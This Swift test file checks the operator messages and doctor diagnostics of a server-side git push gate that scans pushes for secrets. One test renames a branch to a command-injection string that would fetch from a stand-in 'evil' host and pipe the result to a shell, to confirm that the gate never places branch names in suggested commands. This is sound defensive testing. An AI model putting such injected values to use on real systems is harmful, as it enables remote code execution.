import Foundation
import GateModel
import TestSupport
import Testing

/// What whoever runs a server, and whoever pushes to it, is told to do: each of it leads on.
@Suite("what is told on a server to do next")
struct OperatorWordsTests {
    private static let plain = """
        scanners: {secrets: {use: secrets}}
        workflows: [{name: W, decide: annotate}]

        """
    private static let needing = """
        scanners:
          lint: {run: ["true", "{paths}"], report: sarif, network: true}
        workflows: [{name: W, decide: annotate}]

        """

    @Test(
        "HEAD that names a branch which is not there, while others are: said at a push and by doctor, with the way out")
    func unborn() async throws {
        try await GitScenario.served { repo in
            try repo.server("symbolic-ref", "HEAD", "refs/heads/master")
            try repo.commit("process", files: [".gatehouse/process.yml": Self.needing])
            let push = try repo.push("origin", "main")
            #expect(push.status == 0)
            let told = push.words
            #expect(told.contains("it counts when it has landed on master."), "\(told)")
            try repo.commit("key", files: ["k": "k = \(Canary.aws)\n"])
            let blocked = try repo.push("origin", "main").words
            #expect(blocked.contains("its HEAD names master, which is not there, though main is"), "\(blocked)")
            let doctor = try repo.gatehouse("doctor", in: repo.serverFolder)
            #expect(
                doctor.status == 1
                    && NewcomerTests.words(doctor.output).contains("→ git symbolic-ref HEAD refs/heads/main"),
                "\(doctor.output)")
            // A trusted ref decides, whatever HEAD names; and what somebody called a branch is put into no command.
            try repo.server("config", "gatehouse.trustedRef", "main")
            #expect(try !repo.gatehouse("doctor", in: repo.serverFolder).output.contains("symbolic-ref"))
            try repo.server("config", "--unset", "gatehouse.trustedRef")
            try repo.server("branch", "-m", "main", "x;curl${IFS}evil|sh")
            let hostile = try repo.gatehouse("doctor", in: repo.serverFolder).output
            #expect(hostile.contains("git symbolic-ref HEAD refs/heads/BRANCH"), "\(hostile)")
            try repo.server("branch", "-m", "x;curl${IFS}evil|sh", "main")
            try repo.server("symbolic-ref", "HEAD", "refs/heads/main")
            #expect(try repo.gatehouse("doctor", in: repo.serverFolder).output.contains("✓ process"))
        }
    }

    @Test(
        "a setting that is misspelt refuses, since without what it names a push would be judged by less; doctor says so"
    )
    func misspelt() async throws {
        try await GitScenario.served { repo in
            try repo.server("config", "gatehouse.proces", "/srv/policy.git")
            try repo.commit("fine", files: ["a": "a\n"])
            let push = try repo.push("origin", "main")
            let told = push.words
            #expect(
                push.status == 1 && told.contains("'gatehouse.proces' in Git's configuration is no setting"), "\(told)")
            #expect(told.contains("did you mean gatehouse.process?"), "\(told)")
            // Nothing was counted.
            #expect(!told.contains("0 commits") && told.contains("Nothing was looked at"), "\(told)")
            let doctor = try repo.gatehouse("doctor", in: repo.serverFolder)
            #expect(doctor.status == 1 && doctor.output.contains("✗ settings"), "\(doctor.output)")
            #expect(!doctor.output.contains("built-in"), "\(doctor.output)")
            // In a clone it means nothing, and refuses nothing.
            try repo.git("config", "gatehouse.trustedReff", "main")
            let clone = NewcomerTests.words(try repo.gatehouse("doctor").output)
            #expect(clone.contains("did you mean gatehouse.trustedRef?"), "\(clone)")
            try repo.server("config", "--unset", "gatehouse.proces")
            try repo.server("config", "gatehouse.trustedref", "main")
            #expect(try repo.push("origin", "main").status == 0)
        }
    }

    @Test("in a bare repository, process check reads what pushes to it are judged by")
    func landedProcess() async throws {
        try await GitScenario.served { repo in
            let none = try repo.gatehouse("process", "check", in: repo.serverFolder)
            #expect(none.status != 0 && none.words.contains("has no .gatehouse/process.yml"), "\(none.error)")
            try repo.commit("process", files: [".gatehouse/process.yml": Self.plain])
            #expect(try repo.push("origin", "main").status == 0)
            let checked = try repo.gatehouse("process", "check", in: repo.serverFolder)
            #expect(checked.status == 0 && checked.output.contains("✓ .gatehouse/process.yml: 1 scanner"), "\(checked)")
            try repo.commit("wrong", files: [".gatehouse/process.yml": "scanner: {}\n"])
            try repo.git(
                "push", "--quiet", "--no-verify", "--receive-pack=git -c core.hooksPath=/nowhere receive-pack",
                "origin", "main")
            let wrong = try repo.gatehouse("process", "check", in: repo.serverFolder)
            #expect(wrong.status != 0 && wrong.error.contains(".gatehouse/process.yml:1:1"), "\(wrong.error)")
            // The way out that a refused push prints does.
            try repo.commit("mended", files: [".gatehouse/process.yml": Self.plain])
            let refused = try repo.push("origin", "main").error.replacing("remote: ", with: "")
            let lines = refused.split(separator: "\n").map { $0.trimmingCharacters(in: .whitespaces) }
            let steps = lines.filter { $0.hasPrefix("git update-ref ") || $0.hasPrefix("git config ") }
            try #require(steps.count == 3, "\(refused)")
            func runThere(_ step: String) throws {
                let line = step.replacing("COMMIT", with: "main~1")
                let run = try repo.run(["sh", "-c", "cd '\(repo.serverFolder.path)' && \(line)"])
                try #require(run.status == 0, "\(line): \(run.error)")
            }
            try runThere(steps[0])
            try runThere(steps[1])
            #expect(try repo.push("origin", "main").status == 0)
            try runThere(steps[2])
            try repo.commit("more", files: ["b": "b\n"])
            #expect(try repo.push("origin", "main").status == 0)
        }
    }

    @Test("a damaged record is put away whole, as printed; doctor says where")
    func damagedRecord() async throws {
        try await GitScenario.served { repo in
            try repo.commit("fine", files: ["a": "a\n"])
            #expect(try repo.push("origin", "main").status == 0)
            let ledger = repo.serverFolder.appending(path: "gatehouse/ledger.sqlite")
            var bytes = try Data(contentsOf: ledger)
            bytes.replaceSubrange(0..<16, with: Data("garbagegarbage!!".utf8))
            try bytes.write(to: ledger)
            try Data("beside it".utf8).write(to: repo.serverFolder.appending(path: "gatehouse/ledger.sqlite-wal"))
            try repo.commit("more", files: ["a": "b\n"])
            let told = try repo.gatehouse("log", in: repo.serverFolder).error
            let line = try #require(told.split(separator: "\n").first { $0.contains("mkdir '") }, "\(told)")
            let command = String(line[(line.firstRange(of: "mkdir")?.lowerBound ?? line.startIndex)...])
            let run = try repo.run(["sh", "-c", command])
            try #require(run.status == 0, "\(command): \(run.error)")
            #expect(try repo.push("origin", "main").status == 0)
            let kept = try FileManager.default.contentsOfDirectory(
                atPath: repo.serverFolder.appending(path: "gatehouse/damaged").path)
            #expect(Set(kept).isSuperset(of: ["ledger.sqlite", "ledger.sqlite-wal"]), "\(kept)")
            let doctor = NewcomerTests.words(try repo.gatehouse("doctor", in: repo.serverFolder).output)
            #expect(doctor.contains("begun after a damaged one, which lies in"), "\(doctor)")
        }
    }

    @Test("a tag with a message may be the trusted ref, like one without")
    func trustedTag() async throws {
        try await GitScenario.served(
            process: "scanners: {secrets: {use: secrets}}\nworkflows: [{name: W, decide: observe}]\n"
        ) { repo in
            try repo.git("tag", "-a", "v1", "-m", "good")
            try repo.git("tag", "-a", "v2", "-m", "of a tag", "v1")
            try repo.git("push", "--quiet", "--no-verify", "origin", "v1", "v2")
            try repo.server("config", "gatehouse.trustedRef", "refs/tags/v2")
            try repo.commit("more", files: ["a": "a\n"])
            let push = try repo.push("origin", "main")
            #expect(push.status == 0 && push.error.contains("process from v2"), "\(push.error)")
        }
    }

    @Test("what a scanner of the repository may not have is said before the process lands, by doctor, and of no other")
    func openedSandbox() async throws {
        try await GitScenario.served { repo in
            try repo.commit("process", files: [".gatehouse/process.yml": Self.needing])
            let push = try repo.push("origin", "main")
            let told = push.words
            let words = "its 'network' would open the sandbox, which a repository may not do on this server"
            #expect(push.status == 0 && told.contains("scanner lint looks at will be stopped: \(words)"), "\(told)")
            let doctor = try repo.gatehouse("doctor", in: repo.serverFolder)
            #expect(doctor.status == 1 && NewcomerTests.words(doctor.output).contains(words), "\(doctor.output)")
            // A correction that stands alone is not told to stand alone.
            try repo.commit(
                "mend",
                files: [
                    ".gatehouse/process.yml":
                        "scanners: {secrets: {use: secrets}}\nworkflows: [{name: W, decide: observe}]\n"
                ])
            let mend = try repo.push("origin", "main").words
            #expect(mend.contains("names a ref with a good process until it has landed"), "\(mend)")
            #expect(!mend.contains("alone"), "\(mend)")
            try repo.server("config", "gatehouse.sandbox", "as-written")
            #expect(!(try repo.gatehouse("doctor", in: repo.serverFolder).output.contains("would open")))
        }
    }

    @Test("a file that the built-in scanner cannot read is to be mended by who pushes it, and no machine is lacking")
    func damaged() async throws {
        try await GitScenario.served { repo in
            try repo.commit("archive", files: ["a.zip": "PK\u{3}\u{4}garbage"])
            let push = try repo.push("origin", "main")
            let told = push.words
            #expect(push.status == 1 && told.contains("Mend what is named, or take it out of the push."), "\(told)")
            #expect(!told.contains("doctor"), "\(told)")
            let log = NewcomerTests.words(try repo.gatehouse("log", in: repo.serverFolder).output)
            #expect(log.contains("? incomplete main") && log.contains("a.zip"), "\(log)")
        }
    }

    @Test(
        "a secret in a ref's name is owed to no commit, told of no other ref, and its exemption as printed lets it pass"
    )
    func refName() async throws {
        let process = "scanners: {secrets: {use: secrets}}\nworkflows:\n  - {name: All, decide: block}\n"
        try await GitScenario.served(process: process) { repo in
            try repo.commit("innocent", files: ["a": "a\n"])
            let push = try repo.push("origin", "HEAD:refs/heads/k-\(Canary.aws)", "HEAD:refs/heads/plain")
            #expect(push.status == 1 && push.error.contains("added by this push"), "\(push.error)")
            let places = push.error.split(separator: "\n").filter { $0.hasPrefix("remote:   on ") }
            #expect(!push.error.contains("\"innocent\"") && !places.contains { $0.contains("plain") }, "\(push.error)")
            let finding = try #require(try repo.serverRecord().findings?.first?.fingerprint)
            let explained = try repo.gatehouse("explain", finding, in: repo.serverFolder).output
            let lines = explained.split(separator: "\n").map(String.init)
            let start = try #require(lines.firstIndex { $0.hasPrefix("  - name: \"Accepted") }, "\(explained)")
            let exemption = lines[start..<start + 3].joined(separator: "\n")
            let exempting = process.replacing("  - {name: All", with: "\(exemption)\n  - {name: All")
            try repo.commit("let it be", files: [".gatehouse/process.yml": exempting])
            #expect(try repo.push("origin", "main").status == 0)
            let again = try repo.push("origin", "HEAD:refs/heads/k-\(Canary.aws)")
            #expect(again.status == 0, "\(exemption)\n\(again.error)")
            #expect(try repo.push("origin", "HEAD:refs/heads/k-\(Canary.otherAWS)").status == 1)
        }
    }

    @Test("a push that takes the process away is told what judges without it")
    func processGone() async throws {
        try await GitScenario.served(
            process: "scanners: {secrets: {use: secrets}}\nworkflows: [{name: W, decide: block}]\n"
        ) { repo in
            try repo.git("rm", "--quiet", ".gatehouse/process.yml")
            try repo.commit("away", files: [:])
            let push = try repo.push("origin", "main")
            let told = push.words
            #expect(push.status == 0 && told.contains("takes the process away"), "\(told)")
            #expect(told.contains("the built-in one judges") && !told.contains("new one counts"), "\(told)")
        }
    }

    @Test("doctor warns of settings that git reads from variables and the gate does not")
    func variables() async throws {
        try await GitScenario.served { repo in
            let system = repo.folder.appending(path: "system")
            try "[gatehouse]\n\tprocess = /nowhere\n".write(to: system, atomically: true, encoding: .utf8)
            let variables = ["GIT_CONFIG_SYSTEM": system.path]
            let doctor = try repo.gatehouse("doctor", in: repo.serverFolder, environment: variables)
            #expect(doctor.output.contains("GIT_CONFIG_SYSTEM is set here, and the gate reads no settings from there"))
            #expect(try !repo.gatehouse("doctor", in: repo.serverFolder).output.contains("GIT_CONFIG"))
        }
    }

    @Test("hooks in a repository that the gate cannot read are installed with a word about it")
    func unreadableFormat() async throws {
        try GitScenario.play { repo in
            let place = repo.folder.appending(path: "other.git")
            #expect(
                try repo.run(["git", "init", "--quiet", "--bare", "--object-format=sha256", place.path]).status == 0)
            let installed = NewcomerTests.words(try repo.gatehouse("install", "--server", in: place).output)
            #expect(installed.contains("the gate cannot read sha256 objects yet: every push to here will be refused"))
            #expect(installed.components(separatedBy: "sha256").count == 2, "\(installed)")
        }
    }
}
